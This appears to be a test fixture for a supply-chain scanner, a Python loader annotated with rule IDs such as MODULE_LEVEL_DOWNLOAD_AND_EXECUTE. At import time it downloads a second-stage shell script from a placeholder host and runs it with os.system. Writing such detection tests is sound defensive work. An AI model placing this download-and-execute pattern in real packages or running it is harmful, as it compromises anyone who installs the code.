# canary-test: path=mypkg/loader.py artifact=wheel
# Download a second stage at import and run it.
import os
import urllib.request

# ruleid: MODULE_LEVEL_DOWNLOAD_AND_EXECUTE, MODULE_LEVEL_NETWORK
urllib.request.urlretrieve("https://example.invalid/stage2.sh", "/tmp/stage2.sh")
# ruleid: MODULE_LEVEL_DOWNLOAD_AND_EXECUTE
os.system("sh /tmp/stage2.sh")
